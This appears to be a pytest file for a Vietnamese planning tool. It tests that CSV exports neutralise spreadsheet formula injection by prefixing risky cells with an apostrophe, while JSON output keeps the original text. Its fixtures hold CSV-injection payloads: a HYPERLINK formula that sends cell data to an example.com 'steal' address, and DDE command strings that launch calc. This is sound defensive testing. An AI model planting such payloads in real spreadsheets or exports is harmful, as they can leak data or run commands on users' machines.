"""CSV is opened in Excel: a cell that a spreadsheet would run as a formula (it starts with =,
+, -, @, a tab or a carriage return) gets a leading apostrophe; JSON keeps the text as it is."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from conftest import small_plan
from dakplan.outputs.tables import BOM, as_text

HYPERLINK = '=HYPERLINK("http://example.com/steal?d="&A1,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"


@pytest.fixture
def plan(write_plan: Any) -> Path:
    data = small_plan()
    tasks = data["implementation"][0]["tasks"]
    tasks[0]["text"] = HYPERLINK
    tasks[1]["text"] = "-2+3 bài viết mỗi tháng"
    data["implementation"][1]["tasks"][0]["text"] = "\tPhối hợp = cùng làm"
    data["reporting"][0]["text"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    data["agencies"][1]["name"] = DDE
    data["agencies"][1]["short"] = ["+84 Sở"]
    data["groups"][0]["aliases"] = ["-báo chí"]
    return write_plan(data)


def _rows(stdout: str) -> list[dict[str, str]]:
    assert stdout.startswith(BOM)
    return list(csv.DictReader(io.StringIO(stdout[len(BOM):], newline="")))


def test_task_texts_are_text_in_a_spreadsheet(run: Any, plan: Path) -> None:
    result = run("tasks", "-f", "csv", "--as-of", "2030-01-01", str(plan))
    assert result.exit_code == 0, result.output
    texts = {row["id"]: row["text"] for row in _rows(result.stdout)}
    assert texts == {
        "svh-phim": "'" + HYPERLINK,
        "svh-thuong-xuyen": "'-2+3 bài viết mỗi tháng",
        "depts-phoi-hop": "'\tPhối hợp = cùng làm",
        "press-bao-cao": "'@SUM(1+1)*cmd|' /C calc'!A0",
    }
    # As the bytes are written: RFC 4180 quoting around the apostrophe-led cell.
    assert ',"\'=HYPERLINK(""http://example.com/steal?d=""&A1,""Bấm vào đây"")",' in (
        result.stdout)
    # Cells that only hold such a character later are left alone.
    assert all(not row["lead"].startswith("'") for row in _rows(result.stdout))


def test_json_keeps_the_plan_text(run: Any, plan: Path) -> None:
    result = run("tasks", "-f", "json", "--as-of", "2030-01-01", str(plan))
    texts = {task["id"]: task["text"] for task in json.loads(result.stdout)["tasks"]}
    assert texts["svh-phim"] == HYPERLINK


def test_agency_names_are_text_in_a_spreadsheet(run: Any, plan: Path) -> None:
    result = run("agencies", "-f", "csv", str(plan))
    assert result.exit_code == 0, result.output
    rows = {row["code"]: row for row in _rows(result.stdout)}
    assert rows["SVH"]["name"] == "'" + DDE
    assert rows["SVH"]["short"] == "'+84 Sở"
    assert rows["PRESS"]["aliases"] == "'-báo chí"
    assert rows["SYT"]["name"] == "Sở Y tế"
    assert rows["SVH"]["total"] == "4"  # numbers stay numbers


@pytest.mark.parametrize(("cell", "shown"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("x=1", "x=1"), (" =1", " =1"), ("", ""), ("'=1", "'=1"),
    ("Sở TT&TT", "Sở TT&TT"), ("2030-06-30", "2030-06-30"), ("14", "14"),
])
def test_the_rule(cell: str, shown: str) -> None:
    assert as_text(cell) == shown
